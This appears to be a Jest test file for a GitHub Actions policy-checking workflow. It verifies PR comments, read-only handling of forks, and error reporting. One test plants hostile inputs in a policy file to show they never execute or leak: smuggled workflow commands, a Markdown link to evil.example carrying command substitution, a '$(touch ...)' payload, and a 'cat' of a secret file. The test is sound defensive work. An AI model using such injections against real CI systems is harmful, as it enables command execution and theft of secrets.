import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeEach, describe, expect } from "@jest/globals";
import { tempFolder, testWith } from "../tools.ts";
import { makeSite, REPOSITORY } from "./ground.ts";
import type { RunEnd } from "./runner.ts";

const NEEDS = ["git", "ssh-keygen", "curl", "jq"];
const site = await makeSite(tempFolder("holdfast-rehearsal"));
afterAll(() => site.close());
beforeEach(() => {
  site.github.state.comments.length = 0;
  site.github.state.calls.length = 0;
});

const PULL = 7;
site.github.state.pulls.push({
  number: PULL,
  title: "change",
  login: "ana-example",
  base: "main",
  head: "change",
  headSha: "0".repeat(40),
  mergeSha: null,
  commits: [],
  reviews: [],
});

/** Somebody proposes what lies on the default branch of the repository just now. */
async function propose(from: { repository?: string } = {}): Promise<RunEnd> {
  const repository = from.repository ?? REPOSITORY;
  return await site.start({
    workflow: ".github/workflows/policy.yml",
    event: "pull_request",
    ref: `refs/pull/${PULL}/merge`,
    headRef: "change",
    baseRef: "main",
    isFork: repository !== REPOSITORY,
    payload: { pull_request: { number: PULL, head: { repo: { full_name: repository } } } },
  });
}

describe("policy.yml", () => {
  testWith(
    NEEDS,
    "says the settings in effect in one comment, and keeps that one up to date",
    async () => {
      const first = await propose();
      expect(first).toMatchObject({ conclusion: "success" });
      const { comments } = site.github.state;
      expect(comments).toMatchObject([{ issue: PULL, login: "github-actions[bot]" }]);
      expect(comments[0]?.body).toContain("\n    schedule nightly: every day at 02:00 ");
      expect(comments[0]?.body).toContain(
        "\n    restore: 1 of ana, ben, by signature, within 24 h",
      );

      await site.policy((text) => text.replace("last: 14", "last: 5"));
      expect(await propose()).toMatchObject({ conclusion: "success" });
      expect(comments).toHaveLength(1);
      expect(comments[0]?.body).toContain("\n    retention: the newest 5, never fewer than 3");
    },
  );

  testWith(NEEDS, "gives a fork the summary alone, by a token that can only read", async () => {
    const ended = await propose({ repository: "eve-example/servers" });
    expect(ended).toMatchObject({
      conclusion: "success",
      jobs: { comment: { result: "skipped" } },
    });
    expect(ended.jobs["check"]?.summary).toContain("The policy's text is sound");
    expect(site.github.state.comments).toEqual([]);
    expect(site.github.state.calls.filter((call) => !call.startsWith("GET "))).toEqual([]);
  });

  testWith(
    NEEDS,
    "is red for a mistake, and says the line beside the code and in the comment",
    async () => {
      await site.policy((text) => text.replace("last: 5", "last: 0"));
      const ended = await propose();
      expect(ended).toMatchObject({
        conclusion: "failure",
        jobs: { check: { result: "failure" } },
      });
      expect(ended.jobs["check"]?.annotations).toContainEqual(
        expect.objectContaining({
          kind: "error",
          message: expect.stringContaining("retention.last"),
        }),
      );
      expect(site.github.state.comments[0]?.body).toContain("\n    error: holdfast.yml:");
      await site.policy((text) => text.replace("last: 0", "last: 5"));
    },
  );

  testWith(
    NEEDS,
    "runs nothing of a hostile policy, and none of it becomes Markdown or a command",
    async () => {
      const loot = site.path("loot");
      await writeFile(loot, "stolen-words\n");
      await site.policy((text) =>
        text
          .replace(/retention: .*/, "retention: { last: 5 }\n# ::set-env name=X::y")
          .replace(
            "sources:\n",
            `sources:\n  "![x](https://evil.example/\`id\`)": { engine: files, path: "::error::$(touch ${join(site.folder, "ran")})" }\n  loot: { engine: command, run: "cat ${loot}" }\n  url: { engine: postgres, url: "file:${loot}" }\n`,
          ),
      );
      const ended = await propose();
      expect(ended.conclusion).toBe("failure");
      const body = site.github.state.comments[0]?.body ?? "";
      const lines = body.split("\n").slice(3);
      expect(lines.filter((line) => line !== "" && !line.startsWith("    "))).toEqual([]);
      expect(`${ended.log}${body}`).not.toContain("stolen-words");
      await expect(
        writeFile(join(site.folder, "ran"), "", { flag: "wx" }),
      ).resolves.toBeUndefined();
    },
  );
});
